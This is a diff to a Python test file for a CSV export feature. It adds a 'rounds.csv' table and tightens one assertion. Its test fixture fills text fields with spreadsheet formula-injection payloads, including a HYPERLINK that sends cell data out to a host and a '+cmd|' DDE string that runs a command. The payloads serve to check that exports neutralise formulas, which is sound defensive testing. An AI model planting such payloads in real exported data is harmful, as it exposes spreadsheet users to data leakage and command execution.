@@ -55,6 +55,7 @@ CSV_FILES = (
     "comments.csv",
     "floor.csv",
     "phone_comments.csv",
+    "rounds.csv",  # "Fråga igen": earlier rounds (issue 22)
     "statements.csv",
     "topics.csv",
     "notes.csv",
@@ -414,6 +415,8 @@ def test_csv_neutralises_formulas():
 def _every_text_a_formula():
     """Every user text in every field a formula, so a column that skips the
     guard shows up whichever table it is in."""
+    from workshop.barometer.record import RoundRecord
+
     f = '=HYPERLINK("http://x"&A1,"klick")'
     return replace(
         APPENDIX,
@@ -426,6 +429,7 @@ def _every_text_a_formula():
                         text="+cmd|' /C calc'!A0",
                         comments=[replace(c, text="@SUM(1)") for c in s.comments],
                         phone_comments=[replace(c, text="=1+2") for c in s.phone_comments],
+                        rounds=[RoundRecord(1, dict(s.final))],  # rounds.csv has rows too
                     )
                     for s in STATEMENT_RECORDS
                 ],
@@ -488,7 +492,8 @@ def test_csv_guards_every_text_cell_of_every_table():
     assert topics[1][header.index("space")] == '\'=HYPERLINK("http://x"&A1,"klick")'
     assert topics[1][header.index("slot")] == "'@SUM(1)"
     statements = tables["statements.csv"]
-    assert any(float(row[-1]) < 0 for row in statements[1:]), "a negative mean shift stays a number"
+    shift = statements[0].index("mean_shift")
+    assert any(float(row[shift]) < 0 for row in statements[1:]), "a negative mean shift stays a number"
 
 
 def test_two_sections_writing_one_name_is_refused():
